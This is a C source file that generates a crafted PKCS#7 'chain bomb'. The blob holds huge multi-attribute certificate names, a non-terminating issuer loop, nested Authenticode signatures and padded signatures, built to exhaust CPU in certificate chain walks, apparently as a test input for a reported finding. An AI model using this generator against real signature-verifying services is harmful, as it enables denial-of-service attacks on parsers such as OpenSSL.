// SPDX-License-Identifier: GPL-2.0-only
/*
 * mkchainbomb - write the crafted PKCS#7 of the "CPU exhaustion" finding
 *
 *   mkchainbomb NESTED OUT [CERTS [ATTRS [EMPTY [PAD [FILL]]]]]
 *
 * A SignedData that costs a CA-chain walk as much as its structure allows
 * while naming nobody: 16 embedded certificates whose subject and issuer
 * names have 170 attributes each (C= with an empty value: the longest name
 * that still renders in 512 characters), 4 SignerInfos, each naming one of
 * the certificates by issuer and serial, and an issuer loop: every
 * issuer renders like the subject of the last certificate but is encoded
 * differently (UTF8String against PrintableString), so a walk never stops
 * at a self-issued certificate, and the 15 other subjects differ only in
 * their first encoded attribute, so each step compares (renders) them all.
 * The first SignerInfo carries NESTED copies of the same message without
 * nesting as Authenticode nested signatures (1.3.6.1.4.1.311.2.4.1).
 * CERTS (default 16) and names of 4 attributes make the messages small,
 * for tests of nesting; ATTRS sets the attributes per name instead (names
 * of more than 32 attributes do not parse: VENDORBAN_NAME_MAX_ATTRS, so
 * 32 is the most a chain walk can be made to render).  EMPTY appends as
 * many empty RDNs (an empty SET: OpenSSL takes them) to every name: they
 * count no attribute, so only the parse budget bounds their walk.  PAD
 * appends as many bytes of value FILL (default 0) to every certificate's
 * signature BIT STRING: one element, but bytes every linked certificate's
 * fingerprint hashes (the signers name 4 of them).
 * Nothing in it verifies; it is a test input, never a signature.
 */

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define NR_CERTS	16
#define NR_SIGNERS	4
#define NR_ATTRS	170

/* Attributes per name: NR_ATTRS, or 4 for the small variant (CERTS). */
static int nr_attrs = NR_ATTRS;
/* Empty RDNs after them (EMPTY). */
static int nr_empty;
/* Bytes of @pad_fill after each certificate's signature (PAD, FILL). */
static int nr_pad;
static int pad_fill;

struct buf {
	uint8_t *p;
	size_t n;
};

static void die(const char *what)
{
	fprintf(stderr, "mkchainbomb: %s\n", what);
	exit(1);
}

static void append(struct buf *b, const void *data, size_t len)
{
	b->p = realloc(b->p, b->n + len + 1);
	if (!b->p)
		die("out of memory");
	memcpy(b->p + b->n, data, len);
	b->n += len;
}

/* Appends the element TAG { CONTENT } to @b and frees @content. */
static void tlv(struct buf *b, uint8_t tag, struct buf *content)
{
	uint8_t hdr[6] = { tag };
	size_t h = 1, len = content->n;

	if (len < 0x80) {
		hdr[h++] = len;
	} else if (len < 0x10000) {
		hdr[h++] = 0x82;
		hdr[h++] = len >> 8;
		hdr[h++] = len;
	} else {
		hdr[h++] = 0x83;
		hdr[h++] = len >> 16;
		hdr[h++] = len >> 8;
		hdr[h++] = len;
	}
	append(b, hdr, h);
	append(b, content->p, content->n);
	free(content->p);
	content->p = NULL;
	content->n = 0;
}

static void prim(struct buf *b, uint8_t tag, const void *data, size_t len)
{
	struct buf c = { 0 };

	append(&c, data, len);
	tlv(b, tag, &c);
}

static const uint8_t oid_c[] = { 0x55, 0x04, 0x06 };
static const uint8_t oid_signed_data[] = {
	0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02 };
static const uint8_t oid_data[] = {
	0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x01 };
static const uint8_t oid_sha256[] = {
	0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01 };
static const uint8_t oid_rsa[] = {
	0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01 };
static const uint8_t oid_nested[] = {
	0x2b, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x04, 0x01 };

/* A Name of nr_attrs "C=" RDNs; the first encoded one has value @first. */
static void name(struct buf *b, uint8_t str_tag, const char *first)
{
	struct buf rdns = { 0 };
	int i;

	for (i = 0; i < nr_attrs; i++) {
		struct buf atv = { 0 }, seq = { 0 };
		const char *v = i ? "" : first;

		prim(&atv, 0x06, oid_c, sizeof(oid_c));
		prim(&atv, str_tag, v, strlen(v));
		tlv(&seq, 0x30, &atv);
		tlv(&rdns, 0x31, &seq);
	}
	for (i = 0; i < nr_empty; i++)
		append(&rdns, "\x31\x00", 2);
	tlv(b, 0x30, &rdns);
}

static void algo(struct buf *b, const uint8_t *oid, size_t len)
{
	struct buf c = { 0 };

	prim(&c, 0x06, oid, len);
	tlv(b, 0x30, &c);
}

/* The issuer every certificate names: renders as the last subject. */
static void issuer(struct buf *b)
{
	name(b, 0x0c, "");
}

static void cert(struct buf *b, int i)
{
	struct buf tbs = { 0 }, c = { 0 }, v = { 0 }, spki = { 0 };
	struct buf sig = { 0 };
	uint8_t serial = 0x10 + i, ver = 2, zero = 0;
	char first[2] = { (char)('a' + i), 0 };
	int k;

	prim(&v, 0x02, &ver, 1);
	tlv(&tbs, 0xa0, &v);
	prim(&tbs, 0x02, &serial, 1);
	algo(&tbs, oid_rsa, sizeof(oid_rsa));
	issuer(&tbs);
	prim(&v, 0x17, "250101000000Z", 13);
	prim(&v, 0x17, "350101000000Z", 13);
	tlv(&tbs, 0x30, &v);
	name(&tbs, 0x13, i == NR_CERTS - 1 ? "" : first);
	algo(&spki, oid_rsa, sizeof(oid_rsa));
	prim(&spki, 0x03, &zero, 1);
	tlv(&tbs, 0x30, &spki);
	tlv(&c, 0x30, &tbs);
	algo(&c, oid_rsa, sizeof(oid_rsa));
	sig.p = calloc(1, 1);
	if (!sig.p)
		die("out of memory");
	sig.n = 1;
	for (k = 0; k < nr_pad; k++) {
		uint8_t f = pad_fill;

		append(&sig, &f, 1);
	}
	tlv(&c, 0x03, &sig);
	tlv(b, 0x30, &c);
}

/* One SignerInfo naming certificate @i, with @nested attached. */
static void signer(struct buf *b, int i, const struct buf *nested, int nr)
{
	struct buf si = { 0 }, sid = { 0 }, attrs = { 0 }, attr = { 0 };
	struct buf vals = { 0 };
	uint8_t one = 1, serial = 0x10 + i;
	int k;

	prim(&si, 0x02, &one, 1);
	issuer(&sid);
	prim(&sid, 0x02, &serial, 1);
	tlv(&si, 0x30, &sid);
	algo(&si, oid_sha256, sizeof(oid_sha256));
	algo(&si, oid_rsa, sizeof(oid_rsa));
	prim(&si, 0x04, "signature", 9);
	if (nr) {
		prim(&attr, 0x06, oid_nested, sizeof(oid_nested));
		for (k = 0; k < nr; k++)
			append(&vals, nested->p, nested->n);
		tlv(&attr, 0x31, &vals);
		tlv(&attrs, 0x30, &attr);
		tlv(&si, 0xa1, &attrs);
	}
	tlv(b, 0x30, &si);
}

/*
 * A ContentInfo with @nr_certs certificates; the first signer carries @nr
 * copies of @nested.
 */
static void message(struct buf *b, int nr_certs, const struct buf *nested,
		    int nr)
{
	struct buf sd = { 0 }, c = { 0 }, set = { 0 }, eci = { 0 };
	struct buf certs = { 0 }, signers = { 0 }, ci = { 0 };
	uint8_t one = 1;
	int i;

	prim(&sd, 0x02, &one, 1);
	tlv(&sd, 0x31, &set);
	prim(&eci, 0x06, oid_data, sizeof(oid_data));
	tlv(&sd, 0x30, &eci);
	for (i = 0; i < nr_certs; i++)
		cert(&certs, i);
	tlv(&sd, 0xa0, &certs);
	for (i = 0; i < NR_SIGNERS; i++)
		signer(&signers, i, nested, i ? 0 : nr);
	tlv(&sd, 0x31, &signers);
	tlv(&c, 0x30, &sd);
	prim(&ci, 0x06, oid_signed_data, sizeof(oid_signed_data));
	tlv(&ci, 0xa0, &c);
	tlv(b, 0x30, &ci);
}

int main(int argc, char **argv)
{
	struct buf inner = { 0 }, outer = { 0 };
	FILE *f;
	int nr, certs = NR_CERTS;

	if (argc < 3 || argc > 8)
		die("usage: mkchainbomb NESTED OUT [CERTS [ATTRS [EMPTY [PAD [FILL]]]]]");
	nr = atoi(argv[1]);
	if (argc >= 4) {
		certs = atoi(argv[3]);
		nr_attrs = argc >= 5 ? atoi(argv[4]) : 4;
		nr_empty = argc >= 6 ? atoi(argv[5]) : 0;
		nr_pad = argc >= 7 ? atoi(argv[6]) : 0;
		pad_fill = argc == 8 ? atoi(argv[7]) : 0;
	}
	if (nr_empty < 0 || nr_empty > 10000)
		die("EMPTY must be 0 to 10000");
	if (nr_pad < 0 || nr_pad > 1000000 || pad_fill < 0 || pad_fill > 255)
		die("PAD must be 0 to 1000000, FILL 0 to 255");
	if (certs < NR_SIGNERS || certs > NR_CERTS)
		die("CERTS must be 4 to 16");
	if (nr_attrs < 1 || nr_attrs > NR_ATTRS)
		die("ATTRS must be 1 to 170");
	message(&inner, certs, NULL, 0);
	message(&outer, certs, &inner, nr);
	f = fopen(argv[2], "wb");
	if (!f || fwrite(outer.p, 1, outer.n, f) != outer.n || fclose(f))
		die("cannot write the output");
	return 0;
}
